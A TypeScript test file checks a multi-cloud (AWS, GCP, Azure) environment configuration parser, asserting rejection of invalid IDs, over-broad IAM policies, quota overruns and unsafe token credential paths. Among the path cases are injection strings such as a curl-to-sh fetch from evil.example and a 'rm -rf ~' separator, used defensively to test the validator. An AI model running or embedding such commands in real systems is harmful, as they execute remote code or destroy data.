import { describe, expect, it } from "vitest";
import { parseEnvironment } from "../../../src/model/environment/environment.ts";
import { EnvironmentError } from "../../../src/model/environment/errors.ts";
import { environmentWithClouds } from "../../fixtures/environment.ts";

// biome-ignore lint/suspicious/noExplicitAny: the cases write deliberately wrong shapes
type Raw = any;

function issuesOf(raw: unknown) {
  try {
    parseEnvironment(raw, "test");
  } catch (error) {
    if (error instanceof EnvironmentError) return error.issues;
    throw error;
  }
  throw new Error("expected the environment to be rejected");
}

const all = () => environmentWithClouds(["aws", "gcp", "azure"]) as Raw;
const apiIndex = (e: Raw, cloud: string) => e.apis.findIndex((a: Raw) => a.cloud === cloud);

const INVALID: [string, (e: Raw) => void, string, RegExp][] = [
  [
    "AWS on without an AWS API",
    (e) => {
      e.apis.splice(apiIndex(e, "aws"), 1);
      for (const w of e.tenants.flatMap((t: Raw) => t.workloads)) {
        w.grants = w.grants.filter((g: Raw) => g.api !== "aws");
        delete w.aws;
      }
    },
    "clouds.aws",
    /AWS is on but no API is marked cloud: aws/,
  ],
  [
    "GCP on without a GCP API",
    (e) => {
      e.apis[apiIndex(e, "gcp")].cloud = undefined;
    },
    "clouds.gcp",
    /GCP is on but no API is marked cloud: gcp/,
  ],
  [
    "an API marked for Azure while Azure is off",
    (e) => {
      delete e.clouds.azure;
      delete e.tenants[1].azure;
    },
    "apis[4].cloud",
    /marked cloud: azure but clouds\.azure is not configured/,
  ],
  [
    "an AWS account id of 11 digits",
    (e) => {
      e.clouds.aws.accountId = "12345678901";
    },
    "clouds.aws.accountId",
    /12 digits/,
  ],
  [
    "an AWS region that is not one",
    (e) => {
      e.clouds.aws.region = "europe";
    },
    "clouds.aws.region",
    /AWS region/,
  ],
  [
    "a transitive tag key this tool does not set",
    (e) => {
      e.clouds.aws.transitiveTagKeys = ["team"];
    },
    "clouds.aws.transitiveTagKeys[0]",
    /"tenant_id", "workload"/,
  ],
  [
    "a GCP project number with letters",
    (e) => {
      e.clouds.gcp.projectNumber = "98765x";
    },
    "clouds.gcp.projectNumber",
    /digits/,
  ],
  [
    "a GCP project id with uppercase",
    (e) => {
      e.clouds.gcp.projectId = "Acme-Test";
    },
    "clouds.gcp.projectId",
    /6 to 30/,
  ],
  [
    "a GCP pool id starting with gcp-",
    (e) => {
      e.clouds.gcp.poolId = "gcp-m2m";
    },
    "clouds.gcp.poolId",
    /not starting with gcp-/,
  ],
  [
    "a GCP provider id of 3 characters",
    (e) => {
      e.clouds.gcp.providerId = "a0x";
    },
    "clouds.gcp.providerId",
    /4 to 32/,
  ],
  [
    "an Azure subscription that is no GUID",
    (e) => {
      e.clouds.azure.subscriptionId = "prod-subscription";
    },
    "clouds.azure.subscriptionId",
    /GUID/,
  ],
  [
    "an Azure Entra tenant that is no GUID",
    (e) => {
      e.clouds.azure.tenantId = "acme.onmicrosoft.com";
    },
    "clouds.azure.tenantId",
    /GUID/,
  ],
  [
    "an Azure resource group ending with a dot",
    (e) => {
      e.clouds.azure.resourceGroup = "m2m.";
    },
    "clouds.azure.resourceGroup",
    /not ending with '\.'/,
  ],
  [
    "AWS permissions on a workload not granted the AWS API",
    (e) => {
      e.tenants[1].workloads[0].aws = { managedPolicyArns: [] };
      e.tenants[1].workloads[0].grants = e.tenants[1].workloads[0].grants.filter((g: Raw) => g.api !== "aws");
    },
    "tenants[1].workloads[0].aws",
    /no grant to the AWS API "aws"/,
  ],
  [
    "GCP roles on a workload not granted the GCP API",
    (e) => {
      e.tenants[0].workloads[0].gcp = { roles: [{ role: "roles/storage.objectViewer" }] };
      e.tenants[0].workloads[0].grants = e.tenants[0].workloads[0].grants.filter((g: Raw) => g.api !== "gcp");
    },
    "tenants[0].workloads[0].gcp",
    /no grant to the GCP API "gcp"/,
  ],
  [
    "Azure role assignments for a tenant with no Azure workload",
    (e) => {
      for (const w of e.tenants[1].workloads) w.grants = w.grants.filter((g: Raw) => g.api !== "azure");
    },
    "tenants[1].azure",
    /none of its workloads is granted the Azure API/,
  ],
  [
    "a managed policy that is no ARN",
    (e) => {
      e.tenants[0].workloads[0].aws.managedPolicyArns = ["AmazonS3ReadOnlyAccess"];
    },
    "tenants[0].workloads[0].aws.managedPolicyArns[0]",
    /must be an IAM policy ARN/,
  ],
  [
    "an inline policy allowing Action *",
    (e) => {
      e.tenants[0].workloads[0].aws.inlinePolicy.Statement[0].Action = "*";
    },
    "tenants[0].workloads[0].aws.inlinePolicy.Statement[0].Action",
    /not least privilege/,
  ],
  [
    "an inline policy with Allow + NotAction",
    (e) => {
      e.tenants[0].workloads[0].aws.inlinePolicy.Statement[0] = {
        Effect: "Allow",
        NotAction: "iam:*",
        Resource: "*",
      };
    },
    "tenants[0].workloads[0].aws.inlinePolicy.Statement[0]",
    /NotAction or NotResource/,
  ],
  [
    "a max session of 13 hours",
    (e) => {
      e.tenants[0].workloads[0].aws.maxSessionDuration = 46_800;
    },
    "tenants[0].workloads[0].aws.maxSessionDuration",
    /3600 to 43200/,
  ],
  [
    "a primitive GCP role",
    (e) => {
      e.tenants[1].workloads[0].gcp.roles = [{ role: "roles/owner" }];
    },
    "tenants[1].workloads[0].gcp.roles[0].role",
    /primitive role/,
  ],
  [
    "a malformed GCP role",
    (e) => {
      e.tenants[1].gcp.serviceAccountRoles = [{ role: "storage.admin" }];
    },
    "tenants[1].gcp.serviceAccountRoles[0].role",
    /must look like roles\//,
  ],
  [
    "impersonating a service account with no roles",
    (e) => {
      e.tenants[1].gcp.serviceAccountRoles = [];
    },
    "tenants[1].workloads[0].gcp.impersonateServiceAccount",
    /has no roles/,
  ],
  [
    "an Azure role assignment outside the subscription",
    (e) => {
      e.tenants[1].azure.roleAssignments[0].scope =
        "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/x";
    },
    "tenants[1].azure.roleAssignments[0].scope",
    /outside the environment's subscription/,
  ],
  [
    "21 Azure workloads on one tenant",
    (e) => {
      e.tenants[1].workloads = Array.from({ length: 21 }, (_, i) => ({
        name: `worker-${i}`,
        grants: [{ api: "azure", scopes: ["azure:federate"] }],
      }));
      delete e.tenants[1].gcp;
    },
    "tenants[1].workloads",
    /21 workloads of tenant "initech" use Azure.*at most 20/,
  ],
  [
    "100 AWS workloads listing client ids",
    (e) => {
      e.auth0.plan = "enterprise";
      e.tenants = Array.from({ length: 100 }, (_, i) => ({
        id: `tenant-${i}`,
        workloads: [{ name: "worker", grants: [{ api: "aws", scopes: ["aws:federate"] }] }],
      }));
    },
    "clouds.aws",
    /101 client IDs.*over AWS's 100: set tokenDialect: rfc9068_profile.*or shard tenants/,
  ],
  [
    "a GCP API living 48 hours",
    (e) => {
      e.apis[apiIndex(e, "gcp")].tokenLifetime = 172_800;
    },
    "apis[3].tokenLifetime",
    /below 172800/,
  ],
  [
    "an AWS API signed PS256",
    (e) => {
      e.apis[apiIndex(e, "aws")].signingAlg = "PS256";
    },
    "apis[2].signingAlg",
    /RS256/,
  ],
  [
    "a token credential that is a relative file",
    (e) => {
      e.tenants[0].workloads[0].tokenCredential = { file: "secrets/key.pem" };
    },
    "tenants[0].workloads[0].tokenCredential.file",
    /file "secrets\/key\.pem" must be an absolute path/,
  ],
  ...[
    ["a space", "/var/run/my secrets/key.pem"],
    ["a command substitution", "/tmp/$(curl evil.example|sh)"],
    ["a command separator", "/tmp/key.pem;rm -rf ~"],
    ["a backtick", "/tmp/`id`.pem"],
    ["a quote", "/tmp/o'brien.pem"],
    ["a newline", "/tmp/key.pem\n--secret-env X"],
    ["a glob", "/tmp/*.pem"],
  ].map(([what, file]): [string, (e: Raw) => void, string, RegExp] => [
    `a token credential file with ${what}`,
    (e) => {
      e.tenants[0].workloads[0].tokenCredential = { file };
    },
    "tenants[0].workloads[0].tokenCredential.file",
    /no spaces, quotes or shell characters.*command line of the GCP credential configuration/,
  ]),
];

describe("cloud configuration", () => {
  it("GIVEN all three clouds configured as the fixture does WHEN parsed THEN it is valid", () => {
    expect(Object.keys(parseEnvironment(all(), "test").clouds)).toEqual(["aws", "gcp", "azure"]);
  });

  it("GIVEN 100 AWS workloads on an rfc9068 AWS API WHEN parsed THEN the client ID list stays at one entry and it is valid", () => {
    const e = all();
    e.auth0.plan = "enterprise";
    e.apis[apiIndex(e, "aws")].tokenDialect = "rfc9068_profile";
    e.tenants = Array.from({ length: 100 }, (_, i) => ({
      id: `tenant-${i}`,
      workloads: [{ name: "worker", grants: [{ api: "aws", scopes: ["aws:federate"] }] }],
    }));
    expect(parseEnvironment(e, "test").tenants).toHaveLength(100);
  });

  it("GIVEN 1,001 AWS workloads on an rfc9068 AWS API WHEN parsed THEN the account's IAM role quota refuses them, naming the fix; with iamRoleQuota raised they are valid", () => {
    const e = all();
    e.auth0.plan = "enterprise";
    e.apis[apiIndex(e, "aws")].tokenDialect = "rfc9068_profile";
    e.tenants = Array.from({ length: 1_001 }, (_, i) => ({
      id: `tenant-${i}`,
      workloads: [{ name: "worker", grants: [{ api: "aws", scopes: ["aws:federate"] }] }],
    }));
    expect(issuesOf(e)).toEqual([
      {
        path: "clouds.aws.iamRoleQuota",
        message: expect.stringMatching(
          /^1001 AWS workloads need 1001 IAM roles, over the account's quota of 1000 .*shard tenants into stacks on separate accounts, or have AWS raise the quota and set iamRoleQuota$/,
        ),
      },
    ]);
    e.clouds.aws.iamRoleQuota = 1_200;
    expect(parseEnvironment(e, "test").tenants).toHaveLength(1_001);
  });

  it("GIVEN 101 tenants whose GCP workloads impersonate their own service account WHEN parsed THEN the project's service account quota refuses them, naming the fix", () => {
    const e = all();
    e.auth0.plan = "enterprise";
    e.tenants = Array.from({ length: 101 }, (_, i) => ({
      id: `tenant-${i}`,
      gcp: {
        serviceAccountRoles: [{ role: "roles/storage.objectViewer", bucket: `acme-test-tenant-${i}_a` }],
      },
      workloads: [
        {
          name: "worker",
          grants: [{ api: "gcp", scopes: ["gcp:federate"] }],
          gcp: { impersonateServiceAccount: true },
        },
      ],
    }));
    expect(issuesOf(e)).toContainEqual({
      path: "clouds.gcp.serviceAccountQuota",
      message: expect.stringMatching(
        /^101 tenants impersonate a service account of their own, over the project's quota of 100 service accounts/,
      ),
    });
    e.tenants.pop();
    expect(parseEnvironment(e, "test").tenants).toHaveLength(100);
  });

  it("GIVEN token credential files at plain absolute paths WHEN parsed THEN they are accepted and land in the command line as written", () => {
    const e = all();
    e.tenants[1].workloads[0].tokenCredential = { file: "/var/run/secrets/m2m/initech_exporter-2026.pem" };
    e.tenants[1].workloads[1].tokenCredential = { file: "/etc/m2m/client@initech,v=2:key.pem" };
    const files = parseEnvironment(e, "test").tenants[1]?.workloads.map((w) => w.tokenCredential);
    expect(files).toEqual([
      { file: "/var/run/secrets/m2m/initech_exporter-2026.pem" },
      { file: "/etc/m2m/client@initech,v=2:key.pem" },
    ]);
  });

  for (const [name, mutate, path, message] of INVALID) {
    it(`GIVEN ${name} WHEN parsed THEN it is rejected at ${path}`, () => {
      const e = all();
      mutate(e);
      expect(issuesOf(e)).toContainEqual({ path, message: expect.stringMatching(message) });
    });
  }
});
